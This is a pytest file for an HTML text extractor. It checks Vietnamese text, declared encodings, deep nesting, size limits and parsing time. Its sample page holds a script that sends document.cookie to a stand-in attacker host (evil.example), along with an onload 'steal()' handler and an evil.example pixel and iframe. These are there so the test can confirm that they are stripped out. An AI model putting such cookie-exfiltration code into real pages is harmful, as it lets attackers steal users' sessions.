import time

import pytest

from aihub.documents.errors import DocumentError
from aihub.documents.extract import extract
from aihub.documents.formats.html import read_html
from aihub.documents.options import ParseLimits

PAGE = """<!DOCTYPE html><html><head><title>Cửa hàng &amp; Giá</title><style>p {color: red}</style>
<script>fetch("http://evil.example/" + document.cookie)</script></head><body onload="steal()">
<h1>Áo   dài</h1><p>Giá: <b>500</b>.000&nbsp;đ<br>Còn hàng</p><!-- hidden note -->
<ul><li>Đỏ<li>Xanh</ul><noscript>Enable scripts</noscript>
<table><tr><th>Cỡ</th><th>Giá</th></tr><tr><td>M</td><td>1 &lt; 2</td></tr></table>
<pre>a
  b</pre><img src="http://evil.example/pixel.png"><iframe src="http://evil.example/">frame</iframe></body></html>"""


def test_a_page_becomes_text_with_its_blocks() -> None:
    file_format, text = extract("page.html", PAGE.encode(), ParseLimits())
    assert file_format == "html"
    assert text == ("Cửa hàng & Giá\n\nÁo dài\n\nGiá: 500.000\xa0đ\nCòn hàng\n\nĐỏ\nXanh\n\nCỡ\tGiá\nM\t1 < 2\n\na\n  b")


@pytest.mark.parametrize("filename", ["page.pdf", "page.txt", "page", "page.docx"])
def test_a_page_is_known_whatever_its_name(filename: str) -> None:
    assert extract(filename, PAGE.encode(), ParseLimits())[0] == "html"


def test_words_in_inline_tags_stay_together_and_blocks_apart() -> None:
    assert read_html("<p>Hà<i> Nội</i>, <b>V</b>iệt<span>&nbsp;Nam</span></p>cuối", 100).strip() == "Hà Nội, Việt\xa0Nam\n\ncuối"


def test_a_declared_old_encoding_is_believed() -> None:
    page = '<html><head><meta charset="windows-1251"></head><body>Привет, мир</body></html>'.encode("cp1251")
    assert extract("a.html", page, ParseLimits())[1] == "Привет, мир"


def test_a_declared_codec_that_is_no_charset_is_not_used() -> None:
    page = '<html><meta charset="unicode_escape"><body>caf\xe9 \\x41</body></html>'.encode("latin-1")
    assert "\\x41" in extract("a.html", page, ParseLimits())[1]


def test_text_after_deep_nesting_is_not_lost() -> None:
    assert read_html("<div>" * 20_000 + "sâu" + "</div>" * 20_000 + "sau", 100).split() == ["sâu", "sau"]


def test_a_script_that_never_ends_hides_the_rest() -> None:
    with pytest.raises(DocumentError) as caught:
        extract("a.html", b"<html><script>var a = 1; <p>text", ParseLimits())
    assert caught.value.code == "empty_file"


def test_a_page_over_the_limit_is_refused_while_reading() -> None:
    with pytest.raises(DocumentError) as caught:
        read_html("<p>mười chữ cái</p>" * 100_000, 1000)
    assert caught.value.code == "too_large"


def test_millions_of_tags_take_linear_time() -> None:
    start = time.process_time()
    read_html("<b><p>" * 200_000 + "x", 1000)
    assert time.process_time() - start < 20
